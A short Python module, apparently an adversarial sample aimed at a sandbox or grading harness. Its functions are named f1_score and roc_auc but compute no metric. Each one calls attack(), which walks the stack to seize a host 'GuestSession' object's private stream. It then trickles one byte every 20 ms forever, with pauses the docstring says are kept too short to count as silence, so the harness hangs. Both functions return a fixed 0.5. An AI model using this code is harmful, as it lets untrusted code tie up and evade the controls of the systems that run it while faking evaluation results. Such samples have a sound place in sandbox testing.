"""Sends its answer one byte at a time with pauses, each too short to be called silence."""

import sys
import time


def session():
    frame = sys._getframe()
    while frame is not None:
        if type(frame.f_locals.get("self")).__name__ == "GuestSession":
            return frame.f_locals["self"]
        frame = frame.f_back
    raise RuntimeError("no session on the stack")


def attack():
    stream = session()._stream
    while True:
        stream.sendall(b"v")
        time.sleep(0.02)


def f1_score(y_true, y_pred, average="binary"):
    attack()
    return 0.5


def roc_auc(y_true, y_score):
    attack()
    return 0.5
